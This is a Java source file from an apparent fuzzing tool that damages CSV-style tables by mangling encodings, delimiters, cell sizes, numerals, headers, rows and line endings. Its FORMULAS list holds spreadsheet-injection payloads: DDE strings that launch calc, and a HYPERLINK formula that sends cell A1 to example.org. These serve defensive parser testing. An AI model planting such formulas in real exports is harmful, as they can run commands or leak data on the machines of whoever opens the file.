package org.attune.fuzz;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import org.attune.fuzz.Damaged.Reach;

/** Damage to the cells and lines of a text table. */
final class Texts {

  private static final List<String> ENCODINGS =
      List.of(
          "UTF-16LE",
          "UTF-16BE",
          "UTF-32",
          "ISO-8859-1",
          "windows-1252",
          "windows-1250",
          "IBM037",
          "IBM850",
          "Shift_JIS",
          "KOI8-R",
          "GB18030",
          "US-ASCII");
  private static final List<String> FORMULAS =
      List.of(
          "=cmd|' /C calc'!A0",
          "@SUM(1+9)*cmd|' /C calc'!A0",
          "=1+1",
          "+1+1",
          "-1+2",
          "=2",
          "=\"2\"",
          "@2",
          "=HYPERLINK(\"http://example.org/?\"&A1,\"2\")",
          "=IMPORTXML(\"http://example.org\",\"//a\")",
          "\t=2",
          "'2",
          "{=2}",
          "%0A=2");
  private static final List<String> NUMERALS =
      List.of(
          "\uff12",
          "\u0662",
          "0x2",
          "1e400",
          "-1e400",
          "NaN",
          "Infinity",
          "inf",
          "2f",
          "2d",
          "1_0",
          "1 000",
          "1.000,5",
          "2..0",
          "--2",
          "2-",
          "(2)",
          "\u22122",
          "2\u00a0",
          "\u200b2",
          "\u00bd",
          "II",
          "two",
          "TRUE",
          "#N/A",
          "#REF!",
          "NULL",
          "null",
          "-",
          ".",
          "2;3",
          "12/03/2026",
          "2 hours",
          "1e-400",
          "9999999999999999999999",
          "2,000,000");

  private Texts() {}

  static Damaged encoded(Specimen s, Random random) {
    String text = s.grid().text();
    switch (random.nextInt(5)) {
      case 0 -> {
        Charset wide = random.nextBoolean() ? StandardCharsets.UTF_16LE : StandardCharsets.UTF_16BE;
        return new Damaged(
            wide + " with its mark", ("\ufeff" + text).getBytes(wide), Reach.NOTHING);
      }
      case 1 -> {
        String twice = text;
        for (int n = 1 + random.nextInt(3); n > 0; n--) {
          twice =
              new String(twice.getBytes(StandardCharsets.UTF_8), Charset.forName("windows-1252"));
        }
        return damaged("UTF-8 taken for windows-1252 and written again", twice, Reach.WORDS);
      }
      case 2 -> {
        byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
        int at = bytes.length / 4 + random.nextInt(bytes.length * 3 / 4);
        bytes[at] = (byte) (0x80 + random.nextInt(0x80));
        return new Damaged(
            "byte " + at + " no letter of UTF-8", bytes, at >= from(s) ? Reach.CELLS : Reach.WORDS);
      }
      case 3 -> {
        int half = text.length() / 2;
        return new Damaged(
            "half in UTF-8, half in windows-1250",
            Bytes.joined(
                text.substring(0, half).getBytes(StandardCharsets.UTF_8),
                text.substring(half).getBytes(Charset.forName("windows-1250"))),
            Reach.WORDS);
      }
      default -> {
        String name = ENCODINGS.get(random.nextInt(ENCODINGS.size()));
        return new Damaged(name, text.getBytes(Charset.forName(name)), Reach.WORDS);
      }
    }
  }

  private static int from(Specimen s) {
    return s.grid().text().indexOf("P001");
  }

  static Damaged delimited(Specimen s, Random random) {
    List<String> others = new ArrayList<>(List.of(",", ";", "\t", "|", ":", " ", "^", "~", "::"));
    others.remove(String.valueOf(s.grid().delimiter()));
    String other = others.get(random.nextInt(others.size()));
    String name = "delimiter " + other.replace("\t", "tab");
    String text = s.grid().text();
    switch (random.nextInt(4)) {
      case 0 -> {
        return damaged(name + " throughout", s.grid().text(other, "\n"), Reach.WORDS);
      }
      case 1 -> {
        return damaged(
            name + " without quoting",
            text.replace("\"", "").replace(String.valueOf(s.grid().delimiter()), other),
            Reach.WORDS);
      }
      case 2 -> {
        Grid grid = s.grid();
        StringBuilder mixed = new StringBuilder();
        for (int i = 0; i < grid.rows().size(); i++) {
          String between = random.nextInt(3) == 0 ? other : String.valueOf(grid.delimiter());
          mixed.append(Grid.line(grid.rows().get(i), between)).append('\n');
        }
        return damaged(name + " in some lines", mixed.toString(), Reach.WORDS);
      }
      default -> {
        Grid grid = s.grid().copy();
        int column = grid.column("hours");
        boolean some = random.nextBoolean();
        char mark = some ? 's' : 'a';
        for (int i = grid.heads(); i < grid.rows().size(); i++) {
          String cell = grid.rows().get(i).get(column);
          if (!some || random.nextBoolean()) {
            String turned =
                cell.indexOf('.') >= 0 ? cell.replace('.', ',') : cell.replace(',', '.');
            grid.rows().get(i).set(column, turned);
          }
        }
        return damaged("the other decimal mark: " + mark, grid.text(), Reach.WORDS);
      }
    }
  }

  static Damaged huge(Specimen s, Random random) {
    Grid grid = s.grid().copy();
    int size = new int[] {40_000, 70_000, 300_000, 1 << 20}[random.nextInt(4)];
    size = random.nextInt(20) == 0 ? 17 << 20 : size;
    String filling =
        new String[] {"a", "9", "\"", "\n", ",", "\u017b", " ", "0"}[random.nextInt(8)];
    boolean head = random.nextInt(6) == 0;
    int row = head ? 0 : grid.heads() + random.nextInt(grid.rows().size() - grid.heads());
    int column = random.nextInt(grid.width());
    String cell = filling.repeat(size);
    String where = size + " times \\u" + Integer.toHexString(filling.charAt(0)) + " in " + row;
    boolean id = grid.rows().get(row).get(column).matches("P\\d{3}");
    if (random.nextInt(4) == 0) {
      String text = grid.text();
      int at = random.nextInt(text.length());
      return damaged(
          where + ", unquoted at " + at,
          text.substring(0, at) + cell + text.substring(at),
          Reach.CELLS);
    }
    grid.rows().get(row).set(column, cell);
    return damaged(where + ":" + column, grid.text(), id ? Reach.CELLS : Reach.WORDS);
  }

  static Damaged formulas(Specimen s, Random random) {
    Grid grid = s.grid().copy();
    String formula = FORMULAS.get(random.nextInt(FORMULAS.size()));
    StringBuilder where = new StringBuilder(formula + " in");
    boolean id = false;
    for (int n = 1 + random.nextInt(3); n > 0; n--) {
      int row = grid.heads() + random.nextInt(grid.rows().size() - grid.heads());
      int column = random.nextInt(grid.width());
      id |= grid.rows().get(row).get(column).matches("P\\d{3}");
      grid.rows().get(row).set(column, formula);
      where.append(' ').append(row).append(':').append(column);
    }
    return damaged(where.toString(), grid.text(), id ? Reach.CELLS : Reach.WORDS);
  }

  static Damaged numerals(Specimen s, Random random) {
    Grid grid = s.grid().copy();
    String numeral = NUMERALS.get(random.nextInt(NUMERALS.size()));
    int row = grid.heads() + random.nextInt(grid.rows().size() - grid.heads());
    String column = List.of("u1", "u2", "u3", "age", "hours").get(random.nextInt(5));
    String before = grid.rows().get(row).set(grid.column(column), numeral);
    // A blank cell that becomes a number out of range is a number that nothing contradicts.
    return damaged(
        numeral + " in " + row + ":" + column,
        grid.text(),
        before.isEmpty() || numeral.matches("9{9,}|1e-400") ? Reach.CELLS : Reach.WORDS);
  }

  static Damaged headers(Specimen s, Random random) {
    Grid grid = s.grid().copy();
    List<String> head = grid.rows().get(0);
    int column = random.nextInt(head.size());
    String name = head.get(column);
    switch (random.nextInt(9)) {
      case 0 -> head.set(column, "");
      case 1 -> head.set(column, head.get((column + 1) % head.size()));
      case 2 -> head.set(column, "  " + name + " ");
      case 3 -> head.set(column, name.toUpperCase(java.util.Locale.ROOT));
      case 4 -> head.remove(column);
      case 5 -> head.add(column, "extra");
      case 6 -> grid.rows().remove(0);
      case 7 -> {
        List<Integer> order = new ArrayList<>();
        for (int i = 0; i < head.size(); i++) {
          order.add(i);
        }
        Collections.shuffle(order, random);
        grid.rows().replaceAll(row -> new ArrayList<>(order.stream().map(row::get).toList()));
      }
      default -> {
        return damaged(
            "a title above the header", "Export of 22 March 2026\n\n" + grid.text(), Reach.NOTHING);
      }
    }
    return damaged("header " + head + " for column " + column, grid.text(), Reach.NOTHING);
  }

  static Damaged rows(Specimen s, Random random) {
    Grid grid = s.grid().copy();
    List<List<String>> rows = grid.rows();
    int row = grid.heads() + random.nextInt(rows.size() - grid.heads());
    List<String> cells = rows.get(row);
    int column = random.nextInt(cells.size());
    String recipe =
        switch (random.nextInt(9)) {
          case 0 -> "a cell too few" + removed(cells, column);
          case 1 -> "a cell too many" + added(cells, column);
          case 2 -> "the row twice" + again(rows, row);
          case 3 -> "the header again" + put(rows, row, new ArrayList<>(rows.get(0)));
          case 4 -> "only the header" + headOnly(rows, grid.heads());
          case 5 -> "no id" + cells.set(cells.indexOf(id(cells)), "");
          case 6 -> "an empty row" + put(rows, row, new ArrayList<>(List.of("")));
          case 7 ->
              "a row of blanks"
                  + put(rows, row, new ArrayList<>(Collections.nCopies(cells.size(), " ")));
          default -> "a remark" + put(rows, row, new ArrayList<>(List.of("# checked by hand")));
        };
    return damaged(
        recipe + " at " + row + ":" + column,
        grid.text(),
        rows.size() == grid.heads() ? Reach.CELLS : Reach.NOTHING);
  }

  private static String id(List<String> cells) {
    return cells.stream().filter(c -> c.matches("P\\d{3}")).findFirst().orElseThrow();
  }

  private static String removed(List<String> cells, int column) {
    cells.remove(column);
    return "";
  }

  private static String added(List<String> cells, int column) {
    cells.add(column, "1");
    return "";
  }

  private static String again(List<List<String>> rows, int row) {
    rows.add(new ArrayList<>(rows.get(row)));
    return "";
  }

  private static String put(List<List<String>> rows, int row, List<String> cells) {
    rows.add(row, cells);
    return "";
  }

  private static String headOnly(List<List<String>> rows, int heads) {
    rows.subList(heads, rows.size()).clear();
    return "";
  }

  static Damaged lineEnds(Specimen s, Random random) {
    String text = s.grid().text();
    switch (random.nextInt(8)) {
      case 0 -> {
        return damaged("CR LF", text.replace("\n", "\r\n"), Reach.NOTHING);
      }
      case 1 -> {
        return damaged("CR", text.replace("\n", "\r"), Reach.NOTHING);
      }
      case 2 -> {
        StringBuilder mixed = new StringBuilder();
        text.chars()
            .forEach(
                c -> mixed.append(c != '\n' ? String.valueOf((char) c) : ends(random.nextInt(3))));
        return damaged("mixed", mixed.toString(), Reach.NOTHING);
      }
      case 3 -> {
        return damaged("CR CR LF", text.replace("\n", "\r\r\n"), Reach.NOTHING);
      }
      case 4 -> {
        return damaged("a mark first", "\ufeff" + text, Reach.NOTHING);
      }
      case 5 -> {
        int at = text.indexOf('\n', random.nextInt(text.length() - 2)) + 1;
        return damaged(
            "a mark at " + at, text.substring(0, at) + "\ufeff" + text.substring(at), Reach.CELLS);
      }
      case 6 -> {
        int at = random.nextInt(text.length());
        return damaged(
            "a quote at " + at, text.substring(0, at) + "\"" + text.substring(at), Reach.CELLS);
      }
      default -> {
        int at = random.nextInt(text.length());
        return damaged(
            "a line end at " + at, text.substring(0, at) + "\n" + text.substring(at), Reach.CELLS);
      }
    }
  }

  private static String ends(int which) {
    return List.of("\n", "\r\n", "\r").get(which);
  }

  private static Damaged damaged(String recipe, String text, Reach reach) {
    return new Damaged(recipe, text.getBytes(StandardCharsets.UTF_8), reach);
  }
}
